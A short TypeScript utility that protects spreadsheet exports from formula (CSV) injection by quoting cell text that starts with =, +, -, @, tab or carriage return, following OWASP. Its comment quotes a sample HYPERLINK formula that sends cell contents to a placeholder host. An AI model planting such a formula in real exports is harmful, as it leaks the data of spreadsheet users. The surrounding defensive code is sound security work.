// Formula injection ("CSV injection"): a spreadsheet treats a cell that starts with one of these
// as a formula, so a product or customer name like `=HYPERLINK("http://x/?"&A1,"…")` typed at
// the till could leak data or run commands on the owner's PC. OWASP's remedy: prefix such text with
// a single quote, which makes it text. TAB and CR are on OWASP's list because some importers drop a
// leading blank and then see the formula.
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Makes text safe to put in a spreadsheet cell: '=1+1' → "'=1+1", 'Cola' unchanged. For text cells
 * only: numbers are written as numbers, so negative money (-50) is never prefixed.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
